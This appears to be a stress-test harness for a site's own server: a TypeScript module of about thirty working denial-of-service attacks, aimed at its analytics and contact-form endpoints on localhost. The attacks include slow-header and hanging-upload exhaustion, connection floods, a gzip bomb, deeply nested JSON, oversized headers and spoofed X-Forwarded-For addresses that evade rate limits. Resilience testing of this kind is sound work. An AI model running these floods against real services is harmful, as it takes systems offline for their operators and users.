import { randomBytes, randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'

type Target = { host: string; port: number; key: string }
/** Runs until the process is killed. */
type Attack = (target: Target) => Promise<unknown>

const events = '/rest/v1/analytics_events'
const contact = '/rest/v1/rpc/create_lead_from_contact_form'

type Request = { method?: string; path: string; headers?: Record<string, string>; body?: string | Buffer }

function written({ key }: Target, { method, path, headers = {}, body = '' }: Request): Buffer {
  const length = body === '' ? {} : { 'Content-Length': String(Buffer.byteLength(body)) }
  const all = { Host: 'localhost', apikey: key, 'X-Forwarded-For': '192.0.2.66', ...length, ...headers }
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`)
  const verb = method ?? (body === '' ? 'GET' : 'POST')
  return Buffer.concat([Buffer.from(`${verb} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`), Buffer.from(body)])
}

/** Keeps that many sockets open, each handled by `use`; a closed one is opened again. */
async function hold(target: Target, count: number, use: (socket: Socket) => void, pause = 50): Promise<unknown> {
  return Promise.all(
    Array.from({ length: count }, async () => {
      for (;;) {
        const socket = connect(target.port, target.host).on('error', () => undefined)
        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
        use(socket)
        await closed
        await setTimeout(pause)
      }
    }),
  )
}

/** Sends requests on that many connections, each after the answer to the one before. */
const flood = (count: number, make: (n: number) => Request): Attack => {
  let n = 0
  return (target) =>
    hold(target, count, (socket) => {
      const send = () => socket.write(written(target, make(n++)))
      socket.once('connect', send).on('data', send)
    })
}

const hang = (count: number, start: (target: Target) => Buffer, drop: string, everyMs: number): Attack => {
  return (target) =>
    hold(target, count, (socket) => {
      socket.once('connect', () => socket.write(start(target)))
      const timer = setInterval(() => socket.write(drop), everyMs)
      socket.resume().once('close', () => clearInterval(timer))
    })
}

/** As {@link flood}, but with a new connection for each request. */
const churn = (count: number, make: (n: number) => Request): Attack => {
  let n = 0
  return (target) =>
    hold(
      target,
      count,
      (socket) => {
        socket.once('connect', () => socket.end(written(target, make(n++)))).resume()
      },
      0,
    )
}

/** Sends an endless body as fast as the server reads it. */
const pour = (count: number, start: (target: Target) => Buffer, part: Buffer): Attack => {
  return (target) =>
    hold(target, count, (socket) => {
      const send = () => {
        while (!socket.destroyed && socket.write(part));
      }
      socket.once('connect', () => socket.write(start(target), send)).on('drain', send)
      socket.resume()
    })
}

const event = (more: object = {}) => ({
  id: randomUUID(),
  event_type: 'page_view',
  site_id: 'citence',
  page_path: `/invented-${randomUUID()}`,
  session_id: randomUUID(),
  properties: { filler: 'x'.repeat(9000) },
  ...more,
})
const anywhere = () => `2001:db8:${randomBytes(1).toString('hex')}:${randomBytes(2).toString('hex')}::1`
const batches = Array.from({ length: 4 }, () => JSON.stringify(Array.from({ length: 200 }, () => event())))
const smallRows = Array.from({ length: 500 }, () => event({ properties: {} }))
const tinyRows = JSON.stringify(Array.from({ length: 49_000 }, () => ({ event_type: 'x', site_id: 'citence' })))
const lead = () => ({ p_name: 'A', p_email: `${randomUUID()}@attack.example`, p_message: 'x', p_language: 'en' })
const chunked = { 'Transfer-Encoding': 'chunked' }
const bomb = gzipSync(Buffer.alloc(50_000_000, ' '))
const pages = ['/', '/faq', '/fr', '/complete-geo-guide', '/fr/faq']

export const attacks: Readonly<Record<string, Attack>> = {
  'paths of slashes': flood(20, (n) => ({ path: `${'/en'.repeat(60)}/a${'/'.repeat(n % 2 ? 6000 : 15_000)}b` })),
  'rows beyond the cap': flood(8, () => ({ path: events, body: tinyRows })),
  'large batches at full speed': flood(10, (n) => ({ path: events, body: batches[n % 4] ?? '' })),
  'small batches from many addresses': flood(10, () => ({
    path: events,
    headers: { 'X-Forwarded-For': anywhere() },
    body: JSON.stringify(smallRows.map((row) => ({ ...row, id: randomUUID() }))),
  })),
  'deep JSON': flood(10, () => ({ path: events, body: `[${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]` })),
  'many columns': flood(10, (n) => ({
    path: `${events}?columns=event_type,site_id${[...n.toString(2)].map((bit, i) => (bit === '1' ? `,utm_${['source', 'medium', 'campaign', 'content', 'term'][i % 5]}` : '')).join('')}`,
    body: '[{"event_type":"x","site_id":"citence"}]',
  })),
  'leads from many addresses': flood(10, () => ({
    path: contact,
    headers: { 'X-Forwarded-For': anywhere(), 'Idempotency-Key': randomUUID() },
    body: JSON.stringify(lead()),
  })),
  'headers of commas': flood(20, () => ({
    path: '/faq',
    headers: { Accept: ','.repeat(5000), 'If-None-Match': ','.repeat(5000), 'Accept-Encoding': 'q;,'.repeat(1500) },
  })),
  'forged tokens': flood(20, () => ({
    path: '/auth/v1/user',
    headers: { Authorization: `Bearer ${'e30'.repeat(2000)}.e30.e30` },
  })),
  'HEAD, OPTIONS and parts': flood(40, (n) => ({
    method: ['HEAD', 'OPTIONS', 'GET'][n % 3] ?? 'GET',
    path: '/videos/film.webm',
    headers: { Range: `bytes=${'0'.repeat(2000)}1-` },
  })),
  health: flood(40, () => ({ path: '/health' })),
  'pages on 200 connections': flood(200, (n) => ({ path: pages[n % 5] ?? '/', headers: { 'Accept-Encoding': 'br' } })),
  'pages that there are not, each with another query': flood(40, (n) => ({
    path: `/${'x'.repeat(900)}${n}?${'a=b&'.repeat(1500)}${n}`,
  })),
  'a connection for each page': churn(40, (n) => ({ path: pages[n % 5] ?? '/' })),
  'full headers': flood(40, () => ({
    path: '/faq',
    headers: { Cookie: 'a=b; '.repeat(2500), Upgrade: 'h2c', 'HTTP2-Settings': 'AAMAAABkAAQAAP__' },
  })),
  'compressed bodies': flood(20, () => ({ path: events, headers: { 'Content-Encoding': 'gzip' }, body: bomb })),
  'odd methods and versions': flood(40, (n) => ({
    method: ['TRACE', 'PUT', 'DELETE', 'PROPFIND', 'POST'][n % 5] ?? 'PUT',
    path: ['/', events, contact, '/auth/v1/user', '/nowhere'][n % 5] ?? '/',
    body: 'x',
  })),
  'leads of one address': flood(20, () => ({
    path: contact,
    headers: { 'Idempotency-Key': randomUUID() },
    body: JSON.stringify(lead()),
  })),
  'one lead again and again': flood(20, () => ({
    path: contact,
    headers: { 'Idempotency-Key': 'again-and-again' },
    body: JSON.stringify({ ...lead(), p_email: 'again@attack.example' }),
  })),
  'thousands of requests at once': (target) => {
    const requests = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2000)
    return hold(target, 100, (socket) => {
      socket.once('connect', () => socket.write(requests)).resume()
    })
  },
  'eight requests at once': (target) => {
    const request = 'GET /complete-geo-guide HTTP/1.1\r\nHost: a\r\n'
    return hold(target, 100, (socket) => {
      const requests = `${`${request}\r\n`.repeat(7)}${request}Connection: close\r\n\r\n`
      socket.once('connect', () => socket.write(requests)).resume()
    })
  },
  'slow headers': hang(400, () => Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n'), 'X-A: b\r\n', 500),
  'idle sockets': hang(1500, () => Buffer.alloc(0), '', 60_000),
  'hanging uploads': hang(
    600,
    (target) => {
      const headers = { 'Content-Length': '1900000' }
      return written(target, { method: 'POST', path: events, headers, body: `[${' '.repeat(200_000)}` })
    },
    ' ',
    500,
  ),
  'hanging leads': hang(
    600,
    (target) => written(target, { method: 'POST', path: contact, headers: { 'Content-Length': '60000' }, body: '{' }),
    ' ',
    500,
  ),
  'bodies that are announced and not sent': hang(
    600,
    (target) => {
      const headers = { 'Content-Length': '60000', Expect: '100-continue' }
      return written(target, { method: 'POST', path: contact, headers })
    },
    '',
    60_000,
  ),
  'bodies in parts of one byte': pour(
    10,
    (target) => written(target, { method: 'POST', path: events, headers: chunked }),
    Buffer.from('1\r\n \r\n'.repeat(10_000)),
  ),
  'bodies in parts of one byte that expect what nobody offers': pour(
    10,
    (target) => written(target, { method: 'POST', path: '/faq', headers: { ...chunked, Expect: 'x' } }),
    Buffer.from('1\r\n \r\n'.repeat(10_000)),
  ),
  'bodies without an end to what answers none': pour(
    10,
    (target) => written(target, { method: 'POST', path: '/faq', headers: chunked }),
    Buffer.from(`ffff\r\n${'x'.repeat(65_535)}\r\n`),
  ),
  'no HTTP at all': pour(20, () => Buffer.alloc(0), randomBytes(4000)),
  'answers that nobody reads': (target) =>
    hold(target, 300, (socket) => {
      socket.once('connect', () => socket.write(written(target, { path: '/complete-geo-guide' })))
      socket.pause()
    }),
}
